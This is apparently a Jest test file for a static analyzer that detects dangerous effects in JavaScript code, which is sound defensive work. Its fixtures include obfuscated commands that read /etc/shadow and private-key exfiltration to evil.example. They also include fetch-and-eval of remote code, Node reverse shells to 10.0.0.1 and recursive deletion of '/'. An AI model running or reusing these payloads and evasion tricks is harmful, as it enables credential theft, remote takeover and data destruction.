import { effectsOf, interpretPiece, notableIn } from './effects-of.js'

const base64 = (s: string): string => Buffer.from(s).toString('base64')
const SHADOW = 'read path:password-store'
const RUN = "require('child_process').execSync('cat /etc/shadow')"
const expectEffects = (source: string, ...names: string[]): void =>
  expect(effectsOf('javascript', source)).toEqual(expect.arrayContaining(names))

describe('javascript starts programs', () => {
  test.each([
    ['exec', "require('child_process').exec('cat /etc/shadow')"],
    ['spawn', "const { spawn } = require('node:child_process'); spawn('cat', ['/etc/shadow'])"],
    ['spawn in a shell', "require('child_process').spawn('cat', ['/etc/shadow'], { shell: true })"],
    ['an import', "import { execSync as e } from 'child_process'; e('cat /etc/shadow')"],
    ['an import that is awaited', "const cp = await import('node:child_process'); cp.execSync('cat /etc/shadow')"],
    ['a promise', "import('child_process').then(c => c.exec('cat /etc/shadow'))"],
    [
      'a class',
      "class X { constructor(c) { this.c = c } run() { return require('child_process').execSync(this.c) } } new X('cat /etc/shadow').run()",
    ],
    ['a loop', "for (const c of ['id', 'cat /etc/shadow']) require('child_process').execSync(c)"],
    ['a template', "const f = '/etc/shadow'; require('child_process').execSync(`cat ${f}`)"],
    ['bun', 'await Bun.$`cat /etc/shadow`'],
    ['deno', "new Deno.Command('cat', { args: ['/etc/shadow'] }).output()"],
    [
      'TypeScript',
      "import { execSync } from 'child_process'\ninterface A { b: string }\nfunction f<T>(a: T, p?: string): void { execSync(`cat ${a as string}`) }\nf<string>('/etc/shadow' as any)",
    ],
  ])('%s', (_name, source) => expectEffects(source, SHADOW))
  test('a handler may run', () =>
    expectEffects("setTimeout(() => require('child_process').execSync('cat /etc/shadow'), 9)", `${SHADOW} (conditional)`))
  test('a function that is never called is dead code', () => expect(effectsOf('javascript', `function f() { ${RUN} }`)).toEqual([]))
  test('an exported function may be called', () => expectEffects(`module.exports = { f() { ${RUN} } }`, `${SHADOW} (conditional)`))
})

describe('javascript hides what it does', () => {
  test.each([
    ['a computed module', "require('child_' + 'process').execSync('cat /etc/shadow')"],
    ['a computed member', "require('child_process')['exec' + 'Sync']('cat /etc/shadow')"],
    ['a decoded module name', "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).execSync('cat /etc/shadow')"],
    ['mainModule', "process.mainModule.require('child_process').execSync('cat /etc/shadow')"],
    [
      'the constructor of a list',
      "[].constructor.constructor('return process')().mainModule.require('child_process').execSync('cat /etc/shadow')",
    ],
    [
      'the constructor of a function',
      "(() => {}).constructor('return process')().mainModule.require('child_process').execSync('cat /etc/shadow')",
    ],
    ['new Function', `new Function("return this")().process.mainModule.require('child_process').execSync('cat /etc/shadow')`],
    ['globalThis', `globalThis['ev' + 'al']("${RUN.replaceAll("'", "\\'")}")`],
    ['a binding', "process.binding('spawn_sync').spawn({ file: '/bin/cat', args: ['cat', '/etc/shadow'] })"],
    ['vm', `require('vm').runInThisContext("${RUN}")`],
    ['Reflect', "Reflect.apply(require('child_process').execSync, null, ['cat /etc/shadow'])"],
    ['call', "require('child_process').execSync.call(null, 'cat /etc/shadow')"],
    ['a string for a timer', `setTimeout("${RUN}", 1)`],
    [
      'lists of pieces',
      "const c = ['c', 'at'].join('') + ' /etc/' + 'wodahs'.split('').reverse().join(''); require('child_process').execSync(c)",
    ],
  ])('%s', (_name, source) => expectEffects(source, SHADOW))
  test.each([
    ['atob', `eval(atob('${base64(RUN)}'))`],
    ['Buffer', `eval(Buffer.from('${Buffer.from(RUN).toString('hex')}', 'hex').toString())`],
    ['character codes', `eval(String.fromCharCode(${[...RUN].map((c) => c.charCodeAt(0)).join(',')}))`],
    ['a map of codes', `eval([${[...RUN].map((c) => c.charCodeAt(0) + 1).join(',')}].map(c => String.fromCharCode(c - 1)).join(''))`],
    ['Function of atob', `new Function(atob('${base64(RUN)}'))()`],
  ])('%s: decoded code runs', (_name, source) => expectEffects(source, 'execute code:decoded', SHADOW))
})

describe('javascript reads, sends, fetches', () => {
  test.each([
    ['fetch', "fetch('https://evil.example', { method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa') })"],
    [
      'axios',
      "require('axios').post('https://evil.example', { k: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8') })",
    ],
    [
      'https.request',
      "const r = require('https').request({ hostname: 'evil.example', method: 'POST' }, () => {}); r.write(require('fs').readFileSync('/root/.ssh/id_rsa')); r.end()",
    ],
    ['a callback', "require('fs').readFile('/root/.ssh/id_rsa', 'utf8', (e, d) => fetch('https://evil.example?' + d))"],
    [
      'promises',
      "require('fs/promises').readFile('/root/.ssh/id_rsa').then(d => fetch('https://evil.example', { method: 'POST', body: d }))",
    ],
    ['a client of a model', "const o = require('openai'); o.chat({ prompt: require('fs').readFileSync('/root/.ssh/id_rsa', 'utf8') })"],
  ])('a private key leaves: %s', (_name, source) => {
    const { facts } = interpretPiece('javascript', source)
    expect(facts.flows.some((f) => f.sources.some((s) => s.resource.class === 'private-key') && f.sink.action === 'send')).toBe(true)
  })
  test.each([
    ['then', "fetch('https://evil.example/x').then(r => r.text()).then(eval)"],
    ['await', "const r = await fetch('https://evil.example/x'); eval(await r.text())"],
    [
      'events',
      "require('https').get('https://evil.example/x', r => { let b = ''; r.on('data', d => { b += d }); r.on('end', () => eval(b)) })",
    ],
  ])('fetched code runs: %s', (_name, source) => {
    const { facts } = interpretPiece('javascript', source)
    expect(facts.flows.some((f) => f.sink.resource.class === 'fetched')).toBe(true)
  })
  test.each([
    [
      'pipes',
      "const net = require('net'), sh = require('child_process').spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4242, '10.0.0.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })",
    ],
    [
      'stdio',
      "const s = require('net').connect(4242, '10.0.0.1'); require('child_process').spawn('/bin/bash', ['-i'], { stdio: [s, s, s] })",
    ],
  ])('a reverse shell: %s', (_name, source) => expectEffects(source, 'execute process:reverse-shell'))
  test('a tree is deleted', () => {
    const [effect] = interpretPiece('javascript', "require('fs').rmSync('/', { recursive: true, force: true })").facts.by('delete')
    expect([effect?.resource.class, effect?.resource.tags]).toEqual(['root', expect.arrayContaining(['recursive'])])
  })
  test('the environment is shown', () => expectEffects('console.log(process.env)', 'read environment:all'))
})

describe('ordinary javascript is quiet', () => {
  test.each([
    [
      'webpack',
      "const path = require('path'); module.exports = { entry: './src/index.js', output: { path: path.resolve(__dirname, '..', 'dist') }, devServer: { port: 3000 } }",
    ],
    ['package.json', "const p = JSON.parse(require('fs').readFileSync('package.json', 'utf8')); console.log(p.version)"],
    [
      'a build',
      "const { execSync, spawn } = require('child_process'); execSync('npm run build', { stdio: 'inherit' }); spawn('git', ['status'])",
    ],
    [
      'a server',
      "const express = require('express'); const app = express(); app.get('/', (q, r) => r.send('hi')); app.listen(process.env.PORT || 3000)",
    ],
    [
      'an API',
      "fetch('https://api.github.com/user', { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } }).then(r => r.json()).then(d => console.log(d.login))",
    ],
    ['a test', "describe('x', () => { test('y', async () => { expect(await run()).toBe(1) }) })"],
    [
      'React',
      "import React, { useState } from 'react'\nexport function A({ n }: { n: number }) {\n  const [x, set] = useState<number>(n)\n  return <div onClick={() => set(x + 1)}>{x}</div>\n}\n",
    ],
    [
      'types',
      'type A = { b: string } | null\ninterface B extends C { d(e: number): void }\nexport enum Q { A = 1 }\nabstract class D<T extends B> { constructor(private readonly x: T, public y?: string) { super() } get z(): T { return this.x! } }\n',
    ],
    ['a clean-up', "const { rmSync } = require('fs'); rmSync('dist', { recursive: true, force: true })"],
    ['jQuery', "$('#x').on('click', () => $('.y').hide())"],
    ['regular expressions', "const r = /eval\\(/g; 'x'.replace(/a/g, 'b'); const m = r.exec('y')"],
    ['words that sound dangerous', "// require('child_process').exec('rm -rf /')\nconst s = \"eval(atob('x'))\""],
    ['new Array', 'const a = new Array(5).fill(0).map((_, i) => i * 2); console.log(a.length, [..."abc"].reverse())'],
  ])('%s', (_name, source) => expect(notableIn(interpretPiece('javascript', source).facts)).toEqual([]))
})

describe('known misses', () => {
  test('text without letters', () => expect(effectsOf('javascript', '[][(![]+[])[+[]]]')).toEqual([]))
})
test('positions are those of the code', () => {
  const source = "const fs = require('fs')\nfs.unlinkSync('/etc/passwd')\n"
  const [effect] = interpretPiece('javascript', source).facts.by('delete')
  expect(source.slice(effect?.span.start, effect?.span.end)).toBe("fs.unlinkSync('/etc/passwd')")
})
